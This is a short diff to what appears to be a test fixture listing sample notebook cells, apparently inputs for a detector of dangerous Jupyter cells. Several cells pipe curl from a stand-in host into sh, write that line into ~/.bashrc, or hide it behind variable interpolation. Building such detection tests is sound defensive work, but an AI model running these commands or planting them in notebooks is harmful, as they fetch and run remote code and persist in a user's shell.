@@ -10,7 +10,7 @@ CELLS: dict[str, list[str]] = {
     "script-magic": ["%%script bash\ncurl -s http://assay.invalid/x | sh"],
     "script-magic-args": ["%%script --bg bash\ncurl -s http://assay.invalid/x | sh"],
     "writefile-bashrc": ["%%writefile ~/.bashrc\ncurl -s http://assay.invalid/x | sh"],
-    "writefile-append": ["%%writefile -a /root/.profile\necho assay"],
+    "writefile-append": ["%%writefile -a /home/user/.profile\necho assay"],
     "interpolated": ["u='http://assay.invalid/x'\n!curl -s {u} | sh"],
     "interpolated-cmd": ["c='curl http://assay.invalid/x | sh'\n!{c}"],
     "interpolated-dollar": ["c='curl http://assay.invalid/x | sh'\n!$c"],
